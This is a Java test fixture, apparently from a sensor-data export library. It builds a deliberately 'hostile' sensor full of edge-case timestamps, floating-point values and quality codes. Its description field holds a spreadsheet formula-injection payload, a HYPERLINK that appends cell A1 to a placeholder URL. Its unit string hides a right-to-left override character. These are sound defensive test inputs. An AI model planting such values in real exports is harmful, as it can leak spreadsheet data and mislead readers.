package dev.windrow.examples.sensors;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.Comparator;
import java.util.List;
import java.util.stream.LongStream;
import org.jspecify.annotations.Nullable;

/** Everything that a database may hold and that breaks careless exports. */
final class HostileSensor {
    /** The ends of the range, before year 1, beyond year 9999, around zero, and 2 to the 53rd plus one. */
    private static final long[] ODD_TIMES = {
        Long.MIN_VALUE,
        -62_135_596_800_001L,
        -62_135_596_800_000L,
        -9_007_199_254_740_993L,
        -2_208_988_800_000L,
        -1,
        0,
        1,
        951_782_400_000L,
        253_402_300_799_999L,
        253_402_300_800_000L,
        9_007_199_254_740_993L,
        Long.MAX_VALUE
    };

    /** Two are texts: their shortest form is not what an older JDK prints. */
    private static final List<@Nullable Double> VALUES = Arrays.asList(
            0.0,
            -0.0,
            Double.MIN_VALUE,
            Double.MIN_NORMAL,
            Double.MAX_VALUE,
            -Double.MAX_VALUE,
            Double.POSITIVE_INFINITY,
            Double.NEGATIVE_INFINITY,
            Double.NaN,
            null,
            0.1,
            0.1 + 0.2,
            1.0 / 3,
            1e15,
            1e16,
            1e17,
            1e21,
            1e22,
            0x1p53,
            123456789.12345679,
            0.001,
            0.0009999,
            0.0001,
            1e-5,
            1e-7,
            9999999.0,
            1e7,
            100.0,
            4.35,
            0x1p63,
            2e-3,
            Double.valueOf("2e23"),
            Double.valueOf("8.41e21"),
            4.9e-324);

    private static final List<@Nullable Long> QUALITIES = Arrays.asList(0L, -1L, 192L, 2_147_483_648L, null);

    private HostileSensor() {}

    static Sensor sensor() {
        return new Sensor(
                "hostile",
                "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\"),\n\"quoted\"",
                "‰ \u202eunit",
                "made up",
                readings().stream());
    }

    private static List<Reading> readings() {
        long plain = 1_000_000_000_000L;
        long[] times = LongStream.concat(LongStream.of(ODD_TIMES), LongStream.range(plain, plain + 40))
                .toArray();
        List<Reading> readings = new ArrayList<>();
        for (int i = 0; i < times.length; i++) {
            readings.add(new Reading(times[i], VALUES.get(i % VALUES.size()), QUALITIES.get(i % QUALITIES.size())));
        }
        readings.sort(Comparator.comparingLong(Reading::timestampMs));
        return readings;
    }
}
